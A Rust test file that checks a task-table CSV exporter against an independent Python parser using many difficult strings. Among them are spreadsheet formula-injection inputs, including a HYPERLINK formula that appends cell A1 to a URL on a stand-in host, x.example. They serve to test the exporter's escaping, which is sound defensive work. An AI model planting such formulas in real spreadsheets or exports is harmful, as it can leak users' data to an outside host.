//! A table's CSV, read by an independent parser in another language.

use crate::python;
use cbr_tasks::export::Csv;
use cbr_tasks::table::Table;
use serde_json::{Value, json};

const NASTY: [&str; 40] = [
    "plain",
    "",
    " ",
    " spaces around ",
    ",",
    ",,,",
    "\"",
    "\"\"",
    "\"quoted\"",
    "say \"hi\", she said",
    "ends with a quote\"",
    "\",\"",
    "one\r\ntwo",
    "one\ntwo",
    "one\rtwo",
    "\r\n",
    "\n",
    "\"\r\n\"",
    "a;b\tc|d",
    "=1+1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click, please\")",
    "+49 40 1234",
    "-1",
    "-",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    "'=1",
    "''=1",
    "'tis",
    "'",
    "naïve café — 長い名前 😀",
    "\u{feff}mark",
    "\u{2028}\u{85}\u{c}\u{b}",
    "back\\slash \\\" \u{1b}[31m \u{7f}",
];

const TIMES: [Option<&str>; 8] = [
    None,
    Some("2019-05-23T14:35:23.584418"),
    Some("2019-05-23T14:35:23.500+00:00"),
    Some("2020-02-29T23:59:59Z"),
    Some("2019-05-23T00:10:00.000001+01:00"),
    Some("1969-12-31T23:59:59.999000"),
    Some("2019-05-23T14:35:23.000000"),
    Some("2101-01-01T00:00:00.010000Z"),
];

const PROGRESS: [&str; 9] = [
    "0",
    "100",
    "42.5",
    "99.999",
    "0.05",
    "-1.25",
    "33.33333",
    "1000000",
    "2147483.647",
];

/// Builds tasks with every difficult text in every column, next to every other one.
fn tasks() -> Vec<Value> {
    let text = |at: usize| NASTY[at % NASTY.len()];
    let mut tasks = Vec::new();
    for at in 0..NASTY.len() * 6 {
        let progress: Value = serde_json::from_str(PROGRESS[at % PROGRESS.len()]).unwrap();
        // Uneven steps, so that the neighbours differ.
        let mut task = json!({
            "id": format!("{}{at}", text(at)), "status": text(at * 3 + 1), "operation_type": text(at * 7 + 2),
            "provider_id": text(at * 11 + 3), "project_id": text(at * 13 + 4), "policy_id": text(at * 17 + 5),
            "vault_id": text(at * 19 + 6), "vault_name": text(at + 7), "error_info": {"code": text(at * 3 + 8), "message": text(at * 7 + 9)},
            "extra_info": {
                "resource": {"id": text(at * 11 + 10), "type": text(at * 13 + 11), "name": text(at * 17 + 12)},
                "common": {"progress": progress},
            },
        });
        for (step, name) in ["created_at", "started_at", "updated_at", "ended_at"]
            .into_iter()
            .enumerate()
        {
            if let Some(time) = TIMES[(at * (step + 1) + at / 8) % TIMES.len()] {
                task[name] = time.into();
            }
        }
        if at % 5 == 0 {
            task["error_info"] = Value::Null;
            task["extra_info"]["common"] = Value::Null;
        }
        tasks.push(task);
    }
    tasks.push(json!({"id": "4827f2da-b008-4507-ab7d-42d0df5ed912"}));
    tasks
}

/// Runs the reader on a file and the expected tasks. Returns its output, and true if they agree.
fn reader(csv: &str, tasks: &[Value]) -> (String, bool) {
    let input = json!({"csv": csv, "tasks": tasks}).to_string();
    python::run("python/export_reader.py", &input)
}

fn csv(tasks: &[Value]) -> String {
    let mut table = Table::new();
    let report = table.ingest(json!(tasks).to_string().as_bytes()).unwrap();
    assert_eq!(report.added, tasks.len());
    let (mut csv, mut out) = (Csv::default(), Vec::new());
    csv.header(&mut out);
    for row in 0..table.len() {
        assert!(csv.row(&table, row, &mut out));
    }
    String::from_utf8(out).unwrap()
}

#[test]
fn an_independent_parser_reads_the_original_values() {
    let tasks = tasks();
    let (said, is_content) = reader(&csv(&tasks), &tasks);
    assert!(is_content, "{said}");
    assert_eq!(said, "4579 cells in 19 columns compared, 0 problems\n");
    print!("{said}");
}

#[test]
fn the_reader_detects_differences() {
    let tasks = tasks();
    let csv = csv(&tasks);
    for (from, to) in [
        ("'=1+1", "=1+1"),
        ("23.584418Z", "23.584417Z"),
        ("'tis", "''tis"),
        ("42.5", "42.500"),
        ("\"\"quoted\"\"", "\"\"quote\"\""),
    ] {
        assert!(csv.contains(from), "{from}");
        let (said, is_content) = reader(&csv.replacen(from, to, 1), &tasks);
        assert!(!is_content && said.ends_with(", 1 problems\n"), "{said}");
    }
}
